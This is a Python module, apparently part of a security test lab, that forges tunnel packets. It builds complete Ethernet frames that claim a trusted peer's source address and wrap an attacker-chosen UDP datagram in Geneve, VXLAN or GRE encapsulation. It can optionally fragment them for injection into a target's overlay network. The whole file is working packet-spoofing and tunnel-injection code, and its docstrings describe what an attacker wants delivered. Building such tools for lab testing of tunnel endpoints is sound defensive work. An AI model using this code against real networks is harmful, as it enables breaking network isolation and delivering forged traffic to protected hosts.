"""Makes tunnel packets that nobody sent: whole Ethernet frames, with any claimed source. Pure."""

from __future__ import annotations

import enum
import itertools
import struct
from dataclasses import dataclass
from ipaddress import IPv4Address, IPv6Address, ip_address

from tools.lab.pcap import GENEVE_PORT, VXLAN_PORT

_UDP, _GRE, _IPV6_FRAGMENT = 17, 47, 44
_ETHERNET_IN_GRE = 0x6558
_SOURCE_PORT = 49152
_identifications = itertools.count(0x4C61)


class Encapsulation(enum.Enum):
    """How a forged packet pretends to be tunnelled."""

    GENEVE = "geneve"
    VXLAN = "vxlan"
    GRE = "gre"


@dataclass(frozen=True, slots=True)
class Datagram:
    """A UDP datagram in its Ethernet frame, without tunnel: what an attacker wants delivered."""

    source_mac: str
    target_mac: str
    source: str
    target: str
    target_port: int
    payload: bytes

    def frame(self) -> bytes:
        udp = _udp(self.source, self.target, _SOURCE_PORT, self.target_port, self.payload)
        packets = _ip(self.source, self.target, _UDP, udp, None)
        return _ethernet(self.source_mac, self.target_mac, self.source, packets[0])


@dataclass(frozen=True, slots=True)
class Forgery:
    """The outside of a forged tunnel packet."""

    source_mac: str
    target_mac: str
    source: str
    """The claimed one: a peer of the target, to whose tunnel port the packet then belongs."""
    target: str
    encapsulation: Encapsulation = Encapsulation.GENEVE
    port: int | None = None
    """UDP port of the target, the encapsulation's own unless given."""
    network_id: int = 0
    """VNI, 24 bits."""
    fragment_bytes: int | None = None
    """Largest IP payload of a fragment, a multiple of 8; None sends one packet."""

    def frames(self, inner: Datagram) -> list[bytes]:
        """The frames to inject, in order."""
        protocol, payload = self._tunnelled(inner.frame())
        packets = _ip(self.source, self.target, protocol, payload, self.fragment_bytes)
        return [
            _ethernet(self.source_mac, self.target_mac, self.source, packet) for packet in packets
        ]

    def _tunnelled(self, frame: bytes) -> tuple[int, bytes]:
        """IP protocol and IP payload."""
        network_id = self.network_id << 8
        if self.encapsulation is Encapsulation.GRE:
            return _GRE, struct.pack("!HH", 0, _ETHERNET_IN_GRE) + frame
        if self.encapsulation is Encapsulation.GENEVE:
            port, header = GENEVE_PORT, struct.pack("!BBHI", 0, 0, _ETHERNET_IN_GRE, network_id)
        else:
            port, header = VXLAN_PORT, struct.pack("!BBHI", 8, 0, 0, network_id)
        target_port = port if self.port is None else self.port
        return _UDP, _udp(self.source, self.target, _SOURCE_PORT, target_port, header + frame)


def _ethernet(source_mac: str, target_mac: str, source_ip: str, packet: bytes) -> bytes:
    ether_type = 0x0800 if ip_address(source_ip).version == 4 else 0x86DD
    addresses = bytes.fromhex((target_mac + source_mac).replace(":", ""))
    return addresses + ether_type.to_bytes(2) + packet


def _udp(source: str, target: str, source_port: int, target_port: int, payload: bytes) -> bytes:
    length = 8 + len(payload)
    header = struct.pack("!HHH", source_port, target_port, length)
    pseudo = ip_address(source).packed + ip_address(target).packed
    pseudo += struct.pack("!IHH", length, 0, _UDP)
    # Zero would mean "no checksum", which IPv6 does not take.
    checksum = _checksum(pseudo + header + b"\0\0" + payload) or 0xFFFF
    return header + checksum.to_bytes(2) + payload


def _ip(
    source: str, target: str, protocol: int, payload: bytes, fragment_bytes: int | None
) -> list[bytes]:
    """IP packets that carry the payload, several if it is to be cut into fragments."""
    step = fragment_bytes or len(payload)
    if fragment_bytes is not None and fragment_bytes % 8:
        raise ValueError(f"fragments carry a multiple of 8 bytes, not {fragment_bytes}")
    fragmented = fragment_bytes is not None
    number = next(_identifications)
    packets = []
    for offset in range(0, len(payload), step):
        part = payload[offset : offset + step]
        more = offset + step < len(payload)
        if ip_address(source).version == 4:
            packets.append(_ipv4(source, target, protocol, part, (number, offset, more)))
        else:
            cut = (number, offset, more) if fragmented else None
            packets.append(_ipv6(source, target, protocol, part, cut))
    return packets


def _ipv4(
    source: str, target: str, protocol: int, part: bytes, cut: tuple[int, int, bool]
) -> bytes:
    number, offset, more = cut
    flags = (0x2000 if more else 0) | offset // 8
    start = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(part), number & 0xFFFF, flags, 64, protocol)
    addresses = IPv4Address(source).packed + IPv4Address(target).packed
    checksum = _checksum(start + b"\0\0" + addresses)
    return start + checksum.to_bytes(2) + addresses + part


def _ipv6(
    source: str, target: str, protocol: int, part: bytes, cut: tuple[int, int, bool] | None
) -> bytes:
    if cut is not None:
        number, offset, more = cut
        part = struct.pack("!BBHI", protocol, 0, offset | more, number) + part
        protocol = _IPV6_FRAGMENT
    header = struct.pack("!IHBB", 6 << 28, len(part), protocol, 64)
    return header + IPv6Address(source).packed + IPv6Address(target).packed + part


def _checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
